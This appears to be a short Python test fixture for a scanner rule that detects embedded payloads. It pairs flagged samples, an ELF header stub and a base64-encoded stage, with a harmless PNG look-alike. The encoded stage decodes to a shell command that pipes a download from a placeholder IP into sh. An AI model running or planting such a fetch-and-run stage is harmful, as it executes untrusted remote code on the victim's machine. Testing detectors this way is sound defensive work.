# Every member of `sources embedded-payloads` (the rule py-payload-embedded-code tests the
# kinds and decoders one by one), and look-alikes that are not.
import base64

# ruleid: sources.embedded-payloads
ELF = "f0VMRgIBAQAAAAAAAAAAAAMAPgABAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA=="
# ruleid: sources.embedded-payloads
STAGE = base64.b64decode("IyEvYmluL3NoCmN1cmwgLXMgaHR0cDovLzIwMy4wLjExMy45L3ggfCBzaAo=")
# ok: sources.embedded-payloads
ICON = "iVBORw0KGgoAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA"
